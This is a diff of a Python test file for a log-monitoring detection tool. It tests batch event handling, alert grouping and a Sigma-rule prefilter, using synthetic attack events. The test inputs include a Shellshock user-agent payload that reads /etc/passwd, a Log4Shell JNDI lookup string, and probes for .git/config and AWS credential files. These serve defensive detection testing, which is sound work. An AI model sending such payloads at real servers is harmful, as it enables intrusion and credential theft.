@@ -1,4 +1,4 @@
-"""The shared per-event machinery: kind dispatch in the runtime, EventFacts, the Sigma screen."""
+"""The shared machinery: kind dispatch and batches in the runtime, EventFacts, the Sigma screens."""
 
 from __future__ import annotations
 
@@ -11,12 +11,14 @@ import pytest
 from pavedroad.core.findings import Severity
 from pavedroad.monitor.detect import build_detectors
 from pavedroad.monitor.detect import synthetic as scenario
+from pavedroad.monitor.detect.batch import EventBatch
 from pavedroad.monitor.detect.facts import EventFacts
 from pavedroad.monitor.detect.grouping import AlertGrouper
 from pavedroad.monitor.detect.rule import RuleInfo
 from pavedroad.monitor.detect.sigma.backend import SigmaDetector
 from pavedroad.monitor.detect.sigma.loader import BUILTIN_RULES, load_rules, rule_files
 from pavedroad.monitor.detect.stateful.base import WindowedDetector
+from pavedroad.monitor.detect.stateful.logins import LOGIN_GATES, LOGIN_KINDS
 from pavedroad.monitor.ingest.lines import Line
 from pavedroad.monitor.model import Alert, Event, Origin
 from pavedroad.monitor.parsers.registry import build_parser
@@ -77,18 +79,66 @@ def test_built_detectors_share_one_event_facts() -> None:
     assert isinstance(shared, EventFacts) and shared.login_paths == ("/portal/login",)
 
 
-def test_event_facts_answer_for_the_event_asked_about() -> None:
+def test_event_facts_recognise_a_batch_s_logins_once() -> None:
     facts = EventFacts()
     failure = scenario.ssh_login(T0, "203.0.113.5", "root", success=False)
     success = scenario.ssh_login(T0 + timedelta(seconds=1), "203.0.113.5", "root", success=True)
-    first = facts.login(failure)
-    assert first is not None and not first.success
-    assert facts.login(failure) is first  # remembered, not recognised again
-    second = facts.login(success)
-    assert second is not None and second.success
-    assert facts.seconds(failure) == T0.timestamp()
-    assert facts.seconds(success) == T0.timestamp() + 1
-    assert facts.seconds(Event("text", None, {}, "no time")) is None
+    page = scenario.web_event(T0, "203.0.113.5", "/products/42")
+    batch = EventBatch([failure, page, success])
+    logins = facts.login_events(batch)
+    assert logins == [failure, success]
+    assert facts.login_events(batch) is logins  # remembered for the batch, not recognised again
+    first, second = facts.login(failure), facts.login(success)
+    assert first is not None and not first.success and second is not None and second.success
+    assert facts.login(page) is None
+    # an event outside the batch is recognised on its own
+    other = scenario.ssh_login(T0, "198.51.100.2", "bob", success=False)
+    attempt = facts.login(other)
+    assert attempt is not None and attempt.user == "bob"
+
+
+def _attack_mix() -> list[Event]:
+    return [
+        *scenario.benign_replay(T0, minutes=30),
+        *scenario.ssh_brute_force_then_success(T0 + timedelta(minutes=2), "203.0.113.66", failures=25),
+        *scenario.nikto_scan(T0 + timedelta(minutes=10), "203.0.113.77"),
+        *scenario.injection_burst(T0 + timedelta(minutes=12), "203.0.113.88"),
+        scenario.sudo(T0 + timedelta(minutes=13), "alice", success=True, command="/bin/bash"),
+        scenario.console_login(T0 + timedelta(minutes=14), root=True, mfa=False, ip="203.0.113.7"),
+    ]
+
+
+@pytest.mark.parametrize("batch_size", [1, 7, 64, 100_000])
+def test_batches_give_the_alerts_events_one_by_one_give(batch_size: int) -> None:
+    events = sorted(_attack_mix(), key=lambda event: event.timestamp or T0)
+
+    def replay(size: int) -> list[dict[str, object]]:
+        alerts: list[Alert] = []
+        detectors = build_detectors({})
+        for start in range(0, len(events), size):
+            batch = EventBatch(events[start : start + size])
+            for detector in detectors:
+                alerts.extend(detector.observe_batch(batch))  # type: ignore[attr-defined]
+        for detector in detectors:
+            alerts.extend(detector.flush(T0 + timedelta(days=1)))
+        return sorted((alert.to_dict() for alert in alerts), key=lambda alert: (alert["rule_id"], alert["id"]))
+
+    one_by_one = replay(1)
+    assert {alert["rule_id"] for alert in one_by_one} >= {
+        "monitor/brute-force", "monitor/brute-force-succeeded", "monitor/scanner-user-agent", "monitor/sql-injection",
+    }  # fmt: skip
+    assert replay(batch_size) == one_by_one
+
+
+def test_an_occurrence_after_its_group_closed_opens_a_new_group() -> None:
+    rule = RuleInfo("test/rule", "t", Severity.LOW, (), "")
+    grouper = AlertGrouper(window=10, max_groups=100)
+    grouper.add(rule, "ip:1", 0.0, 0.0)
+    grouper.add(rule, "ip:1", 12.0, 12.0)  # no `due` in between, as within a batch
+    first, *rest = grouper.due(12.0)
+    assert (first.count, first.window_start.timestamp(), rest) == (1, 0.0, [])
+    (second,) = grouper.due(22.0)
+    assert (second.count, second.window_start.timestamp()) == (1, 12.0)
 
 
 def test_shared_facts_give_the_same_alerts_as_private_ones() -> None:
@@ -150,3 +200,36 @@ def test_grouper_reports_nothing_before_the_first_group_closes(evicted: bool) ->
         assert [alert.entity for alert in grouper.due(2.0)] == ["ip:1"]
     assert list(grouper.due(9.0 + evicted)) == []
     assert [alert.entity for alert in grouper.due(11.0 + evicted)] == ["ip:2" if evicted else "ip:1"]
+
+
+def test_raw_screen_never_hides_a_line_a_sigma_rule_matches() -> None:
+    detector = SigmaDetector(load_rules(rule_files([BUILTIN_RULES])).rules)
+    events = [
+        *_attack_mix(),
+        scenario.web_event(T0, "203.0.113.7", "/.git/config", status=200),
+        scenario.web_event(T0, "203.0.113.7", "/x", agent="() { :; }; /bin/cat /etc/passwd"),
+        scenario.web_event(T0, "203.0.113.7", "/", query="q=${JNDI:ldap://x/a}"),
+        scenario.web_event(T0, "203.0.113.7", "/.AWS/Credentials"),
+        # not ASCII (the Kelvin sign lower-cases to "k"): the screen cannot vouch for such a line
+        scenario.web_event(T0, "203.0.113.7", "/\u212a/x"),
+    ]
+    random.Random(5).shuffle(events)
+    batch = EventBatch(events)
+    hits = detector._screen.hits(batch)
+    screened_out = matched = 0
+    for index, event in enumerate(events):
+        rules = detector._by_kind.get(event.kind)
+        if rules is None:
+            continue
+        matching = [rule for rule in rules.all if rule.matches(event)]
+        matched += len(matching)
+        if rules.raw_screened and index not in hits:
+            screened_out += 1
+            assert matching == [], event.raw
+    assert matched >= 5 and screened_out > len(events) // 2
+    kelvin = next(index for index, event in enumerate(events) if not event.raw.isascii())
+    assert kelvin in hits  # not ASCII: always looked at closely
+
+
+def test_every_login_kind_has_a_gate() -> None:
+    assert set(LOGIN_GATES) == LOGIN_KINDS
